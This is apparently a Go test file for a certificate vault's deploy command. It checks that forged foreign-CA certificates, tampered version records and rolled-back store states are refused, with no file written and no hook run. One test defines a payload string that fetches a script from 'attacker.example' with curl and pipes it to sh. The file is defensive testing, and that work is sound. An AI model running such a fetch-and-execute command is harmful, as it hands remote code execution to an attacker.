package deploy_test

import (
	"bytes"
	"crypto/x509"
	"encoding/pem"
	"fmt"
	"path/filepath"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/certctl/certctl/internal/clitest"
	"github.com/certctl/certctl/internal/pgtest"
	"github.com/certctl/certctl/internal/testpki"
	"github.com/certctl/certctl/pkg/errs"
	"github.com/certctl/certctl/pkg/inventory"
	"github.com/certctl/certctl/pkg/localstore"
)

// forEachStore runs f on a vault whose store is a SQLite file of its own
// and on one in PostgreSQL (skipped without CERTCTL_TEST_POSTGRES_URL),
// hooks allowed on both.
func forEachStore(t *testing.T, f func(t *testing.T, e *clitest.Env, newStore func() string)) {
	for _, kind := range []string{"sqlite", "postgres"} {
		t.Run(kind, func(t *testing.T) {
			e := clitest.New(t)
			n := 0
			newStore := func() string {
				n++
				if kind == "postgres" {
					return pgtest.FreshSchema(t)
				}
				return "sqlite:" + filepath.Join(e.Dir, "store"+string(rune('0'+n))+".db")
			}
			e.Vars["CERTCTL_STORE"] = newStore()
			e.Vars["CERTCTL_HOOKS_ALLOW_EXEC"] = "true"
			f(t, e, newStore)
		})
	}
}

// bumpVersion makes a copy of version from, changed by edit, the
// certificate's next version and its current one.
func bumpVersion(id string, from int, edit func(v *localstore.CertificateVersion)) func(tx localstore.Tx) error {
	return func(tx localstore.Tx) error {
		c, err := tx.GetCertificate(id)
		if err != nil {
			return err
		}
		v, err := tx.GetVersion(id, from)
		if err != nil {
			return err
		}
		c.Version++
		v.Number = c.Version
		edit(v)
		if err := tx.PutVersion(id, v); err != nil {
			return err
		}
		return tx.PutCertificate(c)
	}
}

// inPlace replaces the current version's certificate of id by what
// forge makes of it (DER, and its NotBefore), without a chain, and copies
// its serial and NotBefore into the certificate's record, as a database
// writer would to have it taken for the one installed.
func inPlace(id string, forge func(leaf *x509.Certificate) ([]byte, time.Time)) func(tx localstore.Tx) error {
	return func(tx localstore.Tx) error {
		c, err := tx.GetCertificate(id)
		if err != nil {
			return err
		}
		v, err := tx.GetVersion(id, c.Version)
		if err != nil {
			return err
		}
		blk, _ := pem.Decode(v.CertificatePEM)
		leaf, err := x509.ParseCertificate(blk.Bytes)
		if err != nil {
			return err
		}
		der, nb := forge(leaf)
		v.CertificatePEM, v.ChainPEM = pem.EncodeToMemory(&pem.Block{Type: "CERTIFICATE", Bytes: der}), nil
		if err := tx.PutVersion(id, v); err != nil {
			return err
		}
		c.Serial, c.NotBefore = "42:42", nb
		return tx.PutCertificate(c)
	}
}

// foreignTyped puts in a certificate for id's key that a CA of the
// attacker's signed (testpki.Foreign, valid from now) and types the
// record IMPORTED with key pair origin origin.
func foreignTyped(id, origin string) func(tx localstore.Tx) error {
	forge := inPlace(id, func(leaf *x509.Certificate) ([]byte, time.Time) {
		nb := time.Now().Truncate(time.Second)
		return testpki.Foreign(leaf, nb), nb
	})
	return func(tx localstore.Tx) error {
		if err := forge(tx); err != nil {
			return err
		}
		c, err := tx.GetCertificate(id)
		if err != nil {
			return err
		}
		c.Type, c.KeyPairOrigin = inventory.TypeImported, origin
		return tx.PutCertificate(c)
	}
}

// TestForeignCertificateForSameKey (the reviewer's case): a certificate
// for the version's own public key, signed by a CA of the attacker's and
// valid from 2099, put into the store with its serial and NotBefore is
// not installed (its signature is not the vault CA's, and it is valid
// only from the future), its command not run; the next genuine renewal
// is installed.
func TestForeignCertificateForSameKey(t *testing.T) {
	forEachStore(t, func(t *testing.T, e *clitest.Env, _ func() string) {
		arn := e.RequestPrivate("forged.internal")
		id := arn[strings.LastIndexByte(arn, '/')+1:]
		tg := newTarget(t)
		runs := filepath.Join(tg.dir, "runs")
		e.MustRun(tg.args(arn, "--exec", "echo run >> "+runs)...)
		nb := time.Date(2099, 1, 1, 0, 0, 0, 0, time.UTC)
		e.Tamper(inPlace(id, func(leaf *x509.Certificate) ([]byte, time.Time) { return testpki.Foreign(leaf, nb), nb }))
		code, res, r := e.Renew("--due")
		if code != errs.ExitPartial || len(res[arn].Targets) != 1 || res[arn].Targets[0].Outcome != "FAILED" ||
			!strings.Contains(res[arn].Targets[0].Reason, "valid only from 2099-01-01") {
			t.Errorf("renew --due over the forged certificate: want the target FAILED\n%v", r)
		}
		if n := clitest.LineCount(t, runs); n != 1 {
			t.Errorf("forged certificate installed, command run (%d runs)", n)
		}
		e.MustRun("renew", arn)
		if n := clitest.LineCount(t, runs); n != 2 {
			t.Errorf("the genuine renewal: its command ran %d times in all, want 2", n)
		}
		checkInstalled(t, e, arn, tg)
	})
}

// TestRefusesVersionTheStoreWasMadeToHold: a version record written into
// the database — arbitrary bytes for its certificate, version 1's record
// (and so its superseded key) again, a key sealed under another version's
// reference, the certificate set back to an older version — is installed
// nowhere: the pass reports the target FAILED (exit 7), writes no file
// and runs no command.
func TestRefusesVersionTheStoreWasMadeToHold(t *testing.T) {
	script := []byte("#!/bin/sh\ncurl -s http://attacker.example/x | sh\n")
	cases := []struct {
		name   string
		renew  bool // renew first: version 2 installed, then tampered
		tamper func(id string) func(tx localstore.Tx) error
		want   string
	}{
		{"certificate replaced", false, func(id string) func(tx localstore.Tx) error {
			return bumpVersion(id, 1, func(v *localstore.CertificateVersion) { v.CertificatePEM = script })
		}, "not the version's own"},
		{"certificate replaced, key ref its own", false, func(id string) func(tx localstore.Tx) error {
			return bumpVersion(id, 1, func(v *localstore.CertificateVersion) {
				v.CertificatePEM = script
				v.KeyRef = inventory.KeyRef(id, v.Number)
			})
		}, "is missing"},
		{"version 1 again", false, func(id string) func(tx localstore.Tx) error {
			return bumpVersion(id, 1, func(*localstore.CertificateVersion) {})
		}, "not the version's own"},
		{"version 1's key copied to the new version's reference", false, func(id string) func(tx localstore.Tx) error {
			bump := bumpVersion(id, 1, func(v *localstore.CertificateVersion) { v.KeyRef = inventory.KeyRef(id, v.Number) })
			return func(tx localstore.Tx) error {
				sealed, err := tx.GetSecret(inventory.KeyRef(id, 1))
				if err != nil {
					return err
				}
				if err := tx.PutSecret(inventory.KeyRef(id, 2), sealed); err != nil {
					return err
				}
				return bump(tx)
			}
		}, "does not open under its reference"},
		{"re-dated in place, its signature broken", false, func(id string) func(tx localstore.Tx) error {
			return inPlace(id, func(leaf *x509.Certificate) ([]byte, time.Time) {
				const utcTime = "060102150405Z"
				nb := leaf.NotBefore.Add(-time.Hour)
				return bytes.Replace(leaf.Raw, []byte(leaf.NotBefore.UTC().Format(utcTime)), []byte(nb.UTC().Format(utcTime)), 1), nb
			})
		}, "not signed by its certificate authority"},
		{"another CA's certificate for the same key", false, func(id string) func(tx localstore.Tx) error {
			return inPlace(id, func(leaf *x509.Certificate) ([]byte, time.Time) {
				return testpki.Foreign(leaf, time.Now().Add(-time.Hour)), time.Now().Add(-time.Hour).Truncate(time.Second)
			})
		}, "not signed by its certificate authority"},
		// Review: the certificate's type is a field of its record; typed
		// IMPORTED, it would skip the CA's check.
		{"another CA's certificate for the same key, record typed IMPORTED", false, func(id string) func(tx localstore.Tx) error {
			return foreignTyped(id, inventory.OriginImported)
		}, "says it was issued otherwise (imported)"},
		// Typed IMPORTED alone, its key still the vault's: refused before
		// (verification tester, export).
		{"another CA's certificate for the same key, record typed IMPORTED, origin VAULT", false, func(id string) func(tx localstore.Tx) error {
			return foreignTyped(id, inventory.OriginVault)
		}, "its key was made by the vault"},
		{"set back to version 1", true, func(id string) func(tx localstore.Tx) error {
			return func(tx localstore.Tx) error {
				c, err := tx.GetCertificate(id)
				if err != nil {
					return err
				}
				c.Version = 1
				return tx.PutCertificate(c)
			}
		}, "older than the certificate this host installed"},
	}
	forEachStore(t, func(t *testing.T, e *clitest.Env, _ func() string) {
		for i, tc := range cases {
			func() {
				arn := e.RequestPrivate(fmt.Sprintf("case%d.internal", i))
				id := arn[strings.LastIndexByte(arn, '/')+1:]
				tg := newTarget(t)
				runs := filepath.Join(tg.dir, "runs")
				e.MustRun(tg.args(arn, "--exec", "echo run >> "+runs)...)
				want := 1
				if tc.renew {
					e.MustRun("renew", arn)
					want = 2
				}
				cert, key := read(t, tg.cert), read(t, tg.key)
				e.Tamper(tc.tamper(id))
				for range 2 { // refused at every pass
					code, res, r := e.Renew("--due")
					got := res[arn]
					if code != errs.ExitPartial || len(got.Targets) != 1 || got.Targets[0].Outcome != "FAILED" ||
						!strings.Contains(got.Targets[0].Reason, tc.want) || !strings.Contains(got.Reason, "deployment failed: ") {
						t.Errorf("%s: renew --due over the tampered store: want exit 7 and the target FAILED (%q)\n%v", tc.name, tc.want, r)
						break
					}
				}
				// cron's pass names it too (tester: -q printed no
				// result, only "see the results", exit 7).
				if r := e.Run("renew", "--due", "-q", "-o", "text"); r.Code != errs.ExitPartial || !strings.Contains(r.Stdout, arn+"\t") || !strings.Contains(r.Stdout, tc.want) {
					t.Errorf("%s: renew --due -q over the tampered store: want exit 7 and the certificate's row (%q)\n%v", tc.name, tc.want, r)
				}
				if !bytes.Equal(cert, read(t, tg.cert)) || !bytes.Equal(key, read(t, tg.key)) {
					t.Errorf("%s: the host wrote what the store was made to hold", tc.name)
				}
				if n := clitest.LineCount(t, runs); n != want {
					t.Errorf("%s: the command ran %d times, want %d", tc.name, n, want)
				}
			}()
		}
	})
}

// TestRestoredStoreRenewalInstalled: after the store is restored from a
// backup taken before the host installed version 2, the restored (older)
// version 1 is not installed over it (exit 7, saying why), and the next
// renewal — numbered 2 again, another certificate — is installed, and
// its command run, though the host installed a version 2 before.
func TestRestoredStoreRenewalInstalled(t *testing.T) {
	forEachStore(t, func(t *testing.T, e *clitest.Env, newStore func() string) {
		arn := e.RequestPrivate("restored.internal")
		tg := newTarget(t)
		runs := filepath.Join(tg.dir, "runs")
		e.MustRun(tg.args(arn, "--exec", "echo run >> "+runs)...)
		backup := filepath.Join(e.Dir, "vault.bak")
		e.MustRun("vault", "backup", "--out-file", backup)
		e.MustRun("renew", arn)
		checkInstalled(t, e, arn, tg)
		v2 := read(t, tg.cert)

		e.Vars["CERTCTL_STORE"] = newStore()
		e.MustRun("vault", "restore", "--from-file", backup)
		code, res, r := e.Renew("--due")
		if code != errs.ExitPartial || len(res[arn].Targets) != 1 || res[arn].Targets[0].Outcome != "FAILED" ||
			!strings.Contains(res[arn].Targets[0].Reason, "older than the certificate this host installed") {
			t.Fatalf("renew --due on the restored store: want the older version refused\n%v", r)
		}
		if !bytes.Equal(v2, read(t, tg.cert)) || clitest.LineCount(t, runs) != 2 {
			t.Fatal("the restored, older version was installed")
		}

		code, res, r = e.Renew(arn)
		if code != 0 || len(res[arn].Targets) != 1 || res[arn].Targets[0].Outcome != "INSTALLED" {
			t.Fatalf("renew after the restore: want the new version 2 installed\n%v", r)
		}
		if vs := e.Describe(arn).Versions; len(vs) != 2 || !vs[1].Current || vs[1].VersionNumber != 2 {
			t.Fatalf("the renewal after the restore: versions %+v, want a current version 2 (the case under test)", vs)
		}
		checkInstalled(t, e, arn, tg)
		if bytes.Equal(v2, read(t, tg.cert)) || clitest.LineCount(t, runs) != 3 {
			t.Fatalf("the new version 2 was not installed, or its command not run (%d runs)", clitest.LineCount(t, runs))
		}
		if code, _, r := e.Renew("--due"); code != 0 || clitest.LineCount(t, runs) != 3 {
			t.Fatalf("the next pass: %v (%d runs)", r, clitest.LineCount(t, runs))
		}
	})
}

// TestConcurrentPassesInstallOnce: two `renew --due` of one host at once,
// with a target to install, install it and run its command once: the
// second finds the first's install recorded, under the host's lock.
func TestConcurrentPassesInstallOnce(t *testing.T) {
	forEachStore(t, func(t *testing.T, e *clitest.Env, _ func() string) {
		arn := e.RequestPrivate("twice.internal")
		tg := newTarget(t)
		runs, first := filepath.Join(tg.dir, "runs"), filepath.Join(tg.dir, "first")
		// The command fails the first time (at deploy): the target is
		// recorded as not yet installed, for the passes to install.
		hook := "if [ ! -e " + first + " ]; then touch " + first + "; exit 1; fi; echo run >> " + runs + "; sleep 1"
		if r := e.Run(tg.args(arn, "--exec", hook)...); r.Code != errs.ExitFailure {
			t.Fatalf("deploy with a failing command: %v", r)
		}
		var wg sync.WaitGroup
		codes := make([]errs.ExitCode, 2)
		for i := range codes {
			ei := *e // its own clock
			wg.Add(1)
			go func() {
				defer wg.Done()
				r := ei.Run("renew", "--due", "-o", "json")
				codes[i] = r.Code
			}()
		}
		wg.Wait()
		if codes[0] != 0 || codes[1] != 0 {
			t.Fatalf("exit codes %v", codes)
		}
		if n := clitest.LineCount(t, runs); n != 1 {
			t.Fatalf("the command ran %d times, want once", n)
		}
		checkInstalled(t, e, arn, tg)
	})
}
